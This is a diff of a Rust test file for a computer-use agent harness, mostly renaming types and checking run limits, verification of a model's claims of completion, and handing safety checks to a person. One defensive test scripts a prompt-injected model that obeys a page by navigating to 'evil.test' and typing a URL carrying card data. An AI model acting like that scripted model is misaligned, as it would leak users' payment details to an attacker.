@@ -13,13 +13,13 @@ mod screen;
 use std::time::Duration;
 
 use helmdeck_vision::{
-    Action, Dialect, Goal, Grid, Limits, Outcome, Run, choose,
+    Action, Dialect, Goal, Grid, Outcome, Run, RunLimits, choose,
     dialect::anthropic::Tool,
     eyes::{Failure, ModelFailure},
     run,
 };
 use helmdeck_wire::observe::Effect;
-use screen::{Said, Screen, Script, button, script, visible};
+use screen::{ModelAnswer, Screen, Script, button, script, visible};
 use serde_json::json;
 use tokio::sync::watch;
 
@@ -28,7 +28,7 @@ fn goal(instruction: &str) -> Goal {
 }
 
 async fn reach(goal: &Goal, screen: &Screen, model: &Script, max_steps: u32) -> Run {
-    let limits = Limits { max_steps, ..Limits::default() };
+    let limits = RunLimits { max_steps, ..RunLimits::default() };
     run(goal, screen, model, &limits, &|_| {}).await
 }
 
@@ -41,8 +41,8 @@ fn opaque(things: Vec<screen::Thing>) -> Screen {
     Screen { accessible: false, ..Screen::new(things) }
 }
 
-fn click(x: i32, y: i32) -> Said {
-    Said::Do(vec![Action::click(x, y)])
+fn click(x: i32, y: i32) -> ModelAnswer {
+    ModelAnswer::Do(vec![Action::click(x, y)])
 }
 
 #[tokio::test]
@@ -54,7 +54,7 @@ async fn one_element_with_the_name_needs_no_model() {
         ("Please click the \"Save\" button.", "Save"),
     ] {
         let screen = Screen::new(vec![button(name, 100, 100), button("Other", 300, 100)]);
-        let model = script(function(), |_| Said::Done("never asked"));
+        let model = script(function(), |_| ModelAnswer::Done("never asked"));
         let run = reach(&goal(instruction), &screen, &model, 5).await;
         assert_eq!((run.outcome, run.model_calls), (Outcome::Completed, 0), "{run:?}");
         assert!(run.steps[0].without_model && run.model.is_none(), "{run:?}");
@@ -67,7 +67,7 @@ async fn one_element_with_the_name_needs_no_model() {
 async fn a_run_can_leave_every_action_to_the_model() {
     let screen = Screen::new(vec![button("Save", 100, 100), button("Other", 300, 100)]);
     let model = script(function(), |_| click(105, 105));
-    let limits = Limits { max_steps: 5, model_only: true, ..Limits::default() };
+    let limits = RunLimits { max_steps: 5, model_only: true, ..RunLimits::default() };
     let run = run(&goal("Click Save"), &screen, &model, &limits, &|_| {}).await;
     assert_eq!((run.outcome, run.model_calls), (Outcome::Completed, 1), "{run:?}");
     assert!(!run.steps[0].without_model, "{run:?}");
@@ -76,7 +76,7 @@ async fn a_run_can_leave_every_action_to_the_model() {
 #[tokio::test]
 async fn parts_that_name_one_element_each_need_no_model() {
     let screen = Screen::new(vec![button("Menu", 100, 100), button("Export", 300, 100)]);
-    let model = script(function(), |_| Said::Done("never asked"));
+    let model = script(function(), |_| ModelAnswer::Done("never asked"));
     let run = reach(&goal("Click Menu, then click Export"), &screen, &model, 5).await;
     assert_eq!((run.outcome, run.model_calls), (Outcome::Completed, 0), "{run:?}");
     assert!(run.steps.len() == 2 && run.steps.iter().all(|step| step.without_model), "{run:?}");
@@ -135,7 +135,7 @@ async fn every_dialect_reaches_a_goal() {
         let model = script(dialect, |turn| match turn {
             0 => click(400, 300),
             1 => click(1012, 610),
-            _ => Said::Done("Saved."),
+            _ => ModelAnswer::Done("Saved."),
         });
         let goal = Goal { success: visible("saved"), ..goal("Save the file") };
         let run = reach(&goal, &screen, &model, 5).await;
@@ -167,7 +167,7 @@ async fn a_model_that_never_says_done_still_completes() {
 #[tokio::test]
 async fn a_model_that_says_done_too_early_is_told_and_never_believed() {
     let screen = opaque(vec![button("Save", 100, 100)]);
-    let model = script(function(), |_| Said::Done("I saved it."));
+    let model = script(function(), |_| ModelAnswer::Done("I saved it."));
     for success in [visible("saved"), Default::default()] {
         let goal = Goal { success, ..goal("Click Save") };
         let run = reach(&goal, &screen, &model, 10).await;
@@ -177,7 +177,10 @@ async fn a_model_that_says_done_too_early_is_told_and_never_believed() {
     }
     // After it was told, it may still do it.
     let model =
-        script(function(), |turn| if turn == 1 { click(105, 105) } else { Said::Done("Saved.") });
+        script(
+            function(),
+            |turn| if turn == 1 { click(105, 105) } else { ModelAnswer::Done("Saved.") },
+        );
     let run =
         reach(&Goal { success: visible("saved"), ..goal("Save it") }, &screen, &model, 10).await;
     assert_eq!(run.outcome, Outcome::Completed);
@@ -187,11 +190,17 @@ async fn a_model_that_says_done_too_early_is_told_and_never_believed() {
 async fn a_click_on_something_else_is_no_evidence() {
     let screen = opaque(vec![button("Save As", 100, 100), button("Print", 200, 100)]);
     let model =
-        script(function(), |turn| if turn == 0 { click(205, 105) } else { Said::Done("Saved.") });
+        script(
+            function(),
+            |turn| if turn == 0 { click(205, 105) } else { ModelAnswer::Done("Saved.") },
+        );
     let run = reach(&goal("Click Save"), &screen, &model, 10).await;
     assert_eq!(run.outcome, Outcome::Unverified);
     let vague =
-        script(function(), |turn| if turn == 0 { click(205, 105) } else { Said::Done("Booked.") });
+        script(
+            function(),
+            |turn| if turn == 0 { click(205, 105) } else { ModelAnswer::Done("Booked.") },
+        );
     let run = reach(&goal("Book me a flight"), &screen, &vague, 10).await;
     assert_eq!((run.outcome, run.model_calls), (Outcome::Unverified, 2));
 }
@@ -200,13 +209,13 @@ async fn a_click_on_something_else_is_no_evidence() {
 async fn every_third_reply_malformed_is_a_bad_step_each() {
     let screen = opaque(vec![button("Save", 100, 100)]);
     let model = script(function(), |turn| match turn {
-        0 => Said::Raw(
+        0 => ModelAnswer::Raw(
             json!({ "choices": [{ "message": { "content": "{\"action\": \"clack\"}" } }] }),
         ),
         1 => click(700, 500),
-        2 => Said::Raw(json!({ "choices": [] })),
-        3 => Said::Fail(ModelFailure::Malformed("no JSON".to_owned())),
-        4 => Said::Raw(json!({ "choices": [{ "message": { "tool_calls": [{
+        2 => ModelAnswer::Raw(json!({ "choices": [] })),
+        3 => ModelAnswer::Fail(ModelFailure::Malformed("no JSON".to_owned())),
+        4 => ModelAnswer::Raw(json!({ "choices": [{ "message": { "tool_calls": [{
             "id": "x", "function": { "name": "computer", "arguments": "{broken" } }] } }] })),
         _ => click(105, 105),
     });
@@ -244,7 +253,7 @@ async fn a_batch_stops_at_the_first_failure_and_says_so() {
             let call = json!({
                 "type": "computer_call", "call_id": "c", "actions": [action("click"), action("type")],
             });
-            Said::Raw(json!({ "output": [call] }))
+            ModelAnswer::Raw(json!({ "output": [call] }))
         }
         _ => click(105, 105),
     });
@@ -306,7 +315,8 @@ async fn the_steps_and_budgets_of_a_run_are_limits() {
     let wander = || script(function(), |turn| click(10 + 60 * turn as i32, 500));
     let run = reach(&goal("Click Save"), &screen, &wander(), 4).await;
     assert_eq!((run.outcome, run.steps.len()), (Outcome::MaxSteps, 4));
-    let fails = |failure: ModelFailure| script(function(), move |_| Said::Fail(failure.clone()));
+    let fails =
+        |failure: ModelFailure| script(function(), move |_| ModelAnswer::Fail(failure.clone()));
     let budget = fails(ModelFailure::Budget("used up".to_owned()));
     assert_eq!(reach(&goal("Click Save"), &screen, &budget, 4).await.outcome, Outcome::Budget);
     let provider = fails(ModelFailure::Provider("503".to_owned()));
@@ -336,7 +346,7 @@ async fn a_run_can_be_stopped() {
         }
         click(10 + 60 * turn as i32, 500)
     });
-    let limits = Limits { stop: Some(stopped), ..Limits::default() };
+    let limits = RunLimits { stop: Some(stopped), ..RunLimits::default() };
     let run = run(&goal("Click Save"), &screen, &model, &limits, &|_| {}).await;
     assert_eq!(run.outcome, Outcome::Cancelled);
     assert!(run.steps.len() <= 4 && run.final_shot.is_some());
@@ -360,8 +370,8 @@ async fn a_run_has_a_longest_time() {
             Box::pin(futures_util::future::pending())
         }
     }
-    let model = Slow(script(function(), |_| Said::Done("")));
-    let limits = Limits { time: Duration::from_secs(60), ..Limits::default() };
+    let model = Slow(script(function(), |_| ModelAnswer::Done("")));
+    let limits = RunLimits { time: Duration::from_secs(60), ..RunLimits::default() };
     let screen = opaque(vec![]);
     let run = run(&goal("Click Save"), &screen, &model, &limits, &|_| {}).await;
     assert_eq!(run.outcome, Outcome::Budget);
@@ -373,10 +383,10 @@ async fn the_time_of_a_run_does_not_pass_while_it_is_paused_or_waits_for_a_perso
     let waits = Duration::from_secs(100);
     let screen = Screen { waits, decision: Some(true), ..opaque(vec![button("Save", 100, 100)]) };
     let model = script(function(), |turn| match turn {
-        0 => Said::Do(vec![Action::Navigate { url: "https://pay.test/".to_owned() }]),
+        0 => ModelAnswer::Do(vec![Action::Navigate { url: "https://pay.test/".to_owned() }]),
         _ => click(105, 105),
     });
-    let limits = Limits { time: Duration::from_secs(60), ..Limits::default() };
+    let limits = RunLimits { time: Duration::from_secs(60), ..RunLimits::default() };
     let run = run(&goal("Click Save"), &screen, &model, &limits, &|_| {}).await;
     assert_eq!((run.outcome, run.model_calls), (Outcome::Completed, 2), "{run:?}");
 }
@@ -385,11 +395,11 @@ async fn the_time_of_a_run_does_not_pass_while_it_is_paused_or_waits_for_a_perso
 async fn a_step_that_a_person_allows_is_told_once() {
     let screen = Screen { decision: Some(true), ..opaque(vec![]) };
     let model = script(function(), |turn| match turn {
-        0 => Said::Do(vec![Action::Navigate { url: "https://pay.test/".to_owned() }]),
-        _ => Said::Done("Paid."),
+        0 => ModelAnswer::Do(vec![Action::Navigate { url: "https://pay.test/".to_owned() }]),
+        _ => ModelAnswer::Done("Paid."),
     });
     let seen = parking_lot::Mutex::new(Vec::new());
-    let limits = Limits { max_steps: 2, ..Limits::default() };
+    let limits = RunLimits { max_steps: 2, ..RunLimits::default() };
     let watcher = |step: &helmdeck_vision::Step| seen.lock().push(step.clone());
     let run = run(&goal("Pay the bill"), &screen, &model, &limits, &watcher).await;
     assert_eq!(*seen.lock(), run.steps);
@@ -399,7 +409,8 @@ async fn a_step_that_a_person_allows_is_told_once() {
 #[tokio::test]
 async fn a_download_that_begins_between_steps_or_while_a_model_thinks_is_questioned() {
     for after in 1..5 {
-        let says: [fn() -> Said; 2] = [|| click(700, 500), || Said::Done("I closed it.")];
+        let says: [fn() -> ModelAnswer; 2] =
+            [|| click(700, 500), || ModelAnswer::Done("I closed it.")];
         for say in says {
             let screen = opaque(vec![button("Close", 100, 100)]);
             screen.state.lock().download_after = Some(after);
@@ -425,7 +436,7 @@ async fn a_page_that_moves_while_a_model_thinks_is_noticed() {
     ] {
         let screen = opaque(vec![button("Save", 100, 100)]);
         screen.state.lock().moves = moves.to_vec();
-        let model = script(function(), |_| Said::Done("I saved it."));
+        let model = script(function(), |_| ModelAnswer::Done("I saved it."));
         let run = reach(&goal("Book it"), &screen, &model, 5).await;
         assert_eq!(run.outcome, Outcome::NeedsConfirmation, "{run:?}");
         assert_eq!(run.model_calls as usize, moves.len() - 2);
@@ -446,9 +457,9 @@ async fn a_run_whose_sites_cannot_be_limited_ends_before_it_acts() {
 #[tokio::test]
 async fn a_page_cannot_lead_a_run_elsewhere() {
     // The model obeys whatever the page says.
-    let obeys: [fn() -> Said; 3] = [
-        || Said::Do(vec![Action::Navigate { url: "https://evil.test/".to_owned() }]),
-        || Said::Do(vec![Action::Type { text: "https://evil.test/?card=1".to_owned() }]),
+    let obeys: [fn() -> ModelAnswer; 3] = [
+        || ModelAnswer::Do(vec![Action::Navigate { url: "https://evil.test/".to_owned() }]),
+        || ModelAnswer::Do(vec![Action::Type { text: "https://evil.test/?card=1".to_owned() }]),
         || click(505, 505),
     ];
     for obey in obeys {
@@ -493,8 +504,9 @@ async fn a_site_that_a_person_allows_is_opened_at_the_next_try() {
 #[tokio::test]
 async fn what_the_instruction_names_is_within_the_scope() {
     let screen = opaque(vec![]);
-    let go = || Said::Do(vec![Action::Navigate { url: "https://news.test/a".to_owned() }]);
-    let model = script(function(), move |turn| if turn == 0 { go() } else { Said::Done("There.") });
+    let go = || ModelAnswer::Do(vec![Action::Navigate { url: "https://news.test/a".to_owned() }]);
+    let model =
+        script(function(), move |turn| if turn == 0 { go() } else { ModelAnswer::Done("There.") });
     let run = reach(&goal("Go to news.test and tell me what is new"), &screen, &model, 5).await;
     assert_ne!(run.outcome, Outcome::NeedsConfirmation);
 }
@@ -509,9 +521,9 @@ async fn safety_checks_go_to_a_person() {
             let call = json!({
                 "type": "computer_call", "call_id": "c", "action": click, "pending_safety_checks": [check],
             });
-            Said::Raw(json!({ "output": [call] }))
+            ModelAnswer::Raw(json!({ "output": [call] }))
         }
-        _ => Said::Done("Done."),
+        _ => ModelAnswer::Done("Done."),
     };
     let things = || vec![button("Pay", 100, 100)];
     let run = reach(&goal("Click Send"), &opaque(things()), &script(dialect, checked), 5).await;
@@ -544,9 +556,9 @@ async fn each_call_gets_the_acknowledgements_of_its_own_safety_checks() {
                     "pending_safety_checks": [check],
                 })
             };
-            Said::Raw(json!({ "output": [call("one"), call("two")] }))
+            ModelAnswer::Raw(json!({ "output": [call("one"), call("two")] }))
         }
-        _ => Said::Done("Done."),
+        _ => ModelAnswer::Done("Done."),
     });
     let screen = Screen { decision: Some(true), ..opaque(vec![button("Pay", 100, 100)]) };
     reach(&goal("Book it"), &screen, &model, 2).await;
@@ -565,7 +577,7 @@ async fn each_call_gets_the_acknowledgements_of_its_own_safety_checks() {
 
 #[tokio::test]
 async fn a_model_can_ask_for_a_person() {
-    let ask = || Said::Do(vec![Action::AskUser { text: "Which account?".to_owned() }]);
+    let ask = || ModelAnswer::Do(vec![Action::AskUser { text: "Which account?".to_owned() }]);
     let model = script(function(), move |_| ask());
     let run = reach(&goal("Log in"), &opaque(vec![]), &model, 5).await;
     assert_eq!(
@@ -580,7 +592,7 @@ async fn people_see_each_step_and_watchers_get_it() {
     let model =
         script(function(), |turn| if turn == 0 { click(700, 500) } else { click(105, 105) });
     let seen = parking_lot::Mutex::new(Vec::new());
-    let limits = Limits { max_steps: 10, ..Limits::default() };
+    let limits = RunLimits { max_steps: 10, ..RunLimits::default() };
     let run =
         run(&goal("Click Save"), &screen, &model, &limits, &|step| seen.lock().push(step.clone()))
             .await;
@@ -605,7 +617,7 @@ async fn pictures_do_not_pile_up_in_a_long_run() {
     let screen = opaque(vec![]);
     let dialect = choose("openai", "gpt-5.4", true);
     let model = script(dialect, |turn| {
-        Said::Do(vec![Action::click(10 + 40 * (turn as i32 % 30), 100 + turn as i32 * 10)])
+        ModelAnswer::Do(vec![Action::click(10 + 40 * (turn as i32 % 30), 100 + turn as i32 * 10)])
     });
     let run = reach(&goal("Click Save"), &screen, &model, 11).await;
     assert_eq!(run.outcome, Outcome::MaxSteps);
